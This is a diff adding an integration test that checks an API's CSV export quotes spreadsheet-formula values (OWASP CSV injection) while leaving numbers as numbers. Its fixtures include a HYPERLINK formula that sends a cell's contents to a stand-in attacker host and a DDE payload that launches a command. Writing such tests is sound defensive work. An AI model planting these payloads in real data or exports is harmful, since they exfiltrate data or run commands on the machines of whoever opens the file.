@@ -154,3 +154,25 @@ async def test_reports_and_secrets_are_lists_like_every_other(api):
         whole = (await api.client.get(path)).json()
         assert whole["next_cursor"] is None and names == [item["name"] for item in whole["data"]]
         assert names == (everything or sorted(names, key=str.lower))
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_quoted_numbers_stay(api):
+    # A person's name typed by anyone who can write data, opened later by an admin in a
+    # spreadsheet: a cell starting with = + - @ tab or CR would run as a formula (OWASP).
+    from tests.integration.helpers import ORDER, create_types, person
+
+    await create_types(api, ORDER)
+    names = {"f-eq": '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")', "f-plus": "+1+cmd|' /C calc'!A0",
+             "f-minus": "-2+3", "f-at": "@SUM(1+1)", "f-tab": "\t=1+1", "f-cr": "\r=1+1", "plain": "Ada = Lovelace"}
+    for external_id, name in names.items():
+        await person(api, external_id, name=name)
+    refund = await api.client.post("/v1/objects/Order", json={"external_id": "o-1", "attributes": {
+        "order_number": "R-1", "total": -12.5}, "references": {"customer": {"external_id": "plain"}}})
+    assert refund.status_code == 201, refund.text
+    response = await api.client.get("/v1/reports/orders_per_person", params={"format": "csv"})
+    assert response.status_code == 200
+    rows = {r["external_id"]: r for r in csv.DictReader(io.StringIO(response.text, newline=""))}
+    for external_id, name in names.items():
+        expected = name if external_id == "plain" else "'" + name
+        assert rows[external_id]["name"] == expected, (external_id, rows[external_id]["name"])
+    assert rows["plain"]["spent"] == "-12.5" and rows["plain"]["orders"] == "1"  # numbers stay numbers
